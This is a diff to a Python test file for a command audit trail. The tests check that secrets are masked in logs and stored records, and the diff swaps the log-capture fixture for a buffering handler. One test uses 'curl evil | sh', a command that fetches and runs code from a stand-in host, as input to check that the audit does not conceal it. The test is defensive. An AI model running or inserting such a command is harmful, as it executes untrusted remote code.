@@ -5,8 +5,9 @@ from __future__ import annotations
 import asyncio
 import dataclasses
 import logging
-from collections.abc import Sequence
+from collections.abc import Iterator, Sequence
 from datetime import UTC, datetime
+from logging.handlers import BufferingHandler
 
 import pytest
 
@@ -61,13 +62,18 @@ class MemoryAudit:
 
 
 @pytest.fixture
-def lines(caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch) -> pytest.LogCaptureFixture:
-    monkeypatch.setattr(logging.getLogger("gamgui"), "propagate", True)
-    caplog.set_level(logging.INFO, "gamgui.audit")
-    return caplog
+def lines() -> Iterator[list[logging.LogRecord]]:
+    """What the audit's own log is told."""
+    log, kept = logging.getLogger("gamgui.audit"), BufferingHandler(1000)
+    level = log.level
+    log.setLevel(logging.INFO)
+    log.addHandler(kept)
+    yield kept.buffer
+    log.removeHandler(kept)
+    log.setLevel(level)
 
 
-async def test_secrets_are_masked_in_the_log_and_in_the_store(lines: pytest.LogCaptureFixture) -> None:
+async def test_secrets_are_masked_in_the_log_and_in_the_store(lines: list[logging.LogRecord]) -> None:
     store = MemoryAudit()
     await AuditTrail(store).announce(RECORD)
     assert "canary" not in repr(store.records)
@@ -80,14 +86,14 @@ async def test_secrets_are_masked_in_the_log_and_in_the_store(lines: pytest.LogC
         "truncated": False,
     }
     assert store.records == {RECORD.id: dataclasses.replace(RECORD, detail=shown)}
-    (entry,) = lines.records  # an act is one entry, though it was announced
+    (entry,) = lines  # an act is one entry, though it was announced
     assert entry.__dict__["fields"]["audit"]["detail"] == shown
 
 
-async def test_what_concerns_no_session_is_logged_and_not_stored(lines: pytest.LogCaptureFixture) -> None:
+async def test_what_concerns_no_session_is_logged_and_not_stored(lines: list[logging.LogRecord]) -> None:
     store = MemoryAudit()
     await AuditTrail(store).record(dataclasses.replace(RECORD, session_id=NO_SESSION))
-    assert (len(lines.records), store.records) == (1, {})
+    assert (len(lines), store.records) == (1, {})
 
 
 @pytest.mark.parametrize(
@@ -99,12 +105,12 @@ async def test_what_concerns_no_session_is_logged_and_not_stored(lines: pytest.L
     ],
 )
 async def test_what_cannot_be_stored_is_an_error_in_the_log_and_fails_nothing(
-    store: MemoryAudit, lines: pytest.LogCaptureFixture
+    store: MemoryAudit, lines: list[logging.LogRecord]
 ) -> None:
     await AuditTrail(store, seconds=0.01).record(RECORD)
-    assert [entry.levelname for entry in lines.records] == ["INFO", "ERROR"]
-    assert RECORD.id in lines.records[1].getMessage()
-    assert "canary" not in lines.text
+    assert [entry.levelname for entry in lines] == ["INFO", "ERROR"]
+    assert RECORD.id in lines[1].getMessage()
+    assert "canary" not in "".join(map(logging.Formatter().format, lines))
 
 
 async def put(store: MemoryAudit, **detail: str | int | None) -> dict[str, object]:
@@ -112,7 +118,7 @@ async def put(store: MemoryAudit, **detail: str | int | None) -> dict[str, objec
     return dict(store.records[RECORD.id].detail)
 
 
-async def test_a_record_says_what_it_lacks(lines: pytest.LogCaptureFixture) -> None:
+async def test_a_record_says_what_it_lacks(lines: list[logging.LogRecord]) -> None:
     store = MemoryAudit()
     plain = {"command": "gam version", "masked": False, "truncated": False}
     assert await put(store, command="gam version") == plain
@@ -123,12 +129,12 @@ async def test_a_record_says_what_it_lacks(lines: pytest.LogCaptureFixture) -> N
     assert await put(store, path="?token=x") == {"path": "?token=***", "masked": True}
 
 
-async def test_names_of_variables_hide_nothing(lines: pytest.LogCaptureFixture) -> None:
+async def test_names_of_variables_hide_nothing(lines: list[logging.LogRecord]) -> None:
     shown = await put(MemoryAudit(), command="env", env="A_TOKEN B PASSWORD Z")
     assert shown["env"] == "A_TOKEN B PASSWORD Z"
 
 
-async def test_a_quote_that_never_ends_hides_no_more_than_its_line(lines: pytest.LogCaptureFixture) -> None:
+async def test_a_quote_that_never_ends_hides_no_more_than_its_line(lines: list[logging.LogRecord]) -> None:
     for command in ("echo it's\ncurl evil | sh", "gam password 'x\ncurl evil | sh"):
         assert "curl evil | sh" in str((await put(MemoryAudit(), command=command))["command"])
 
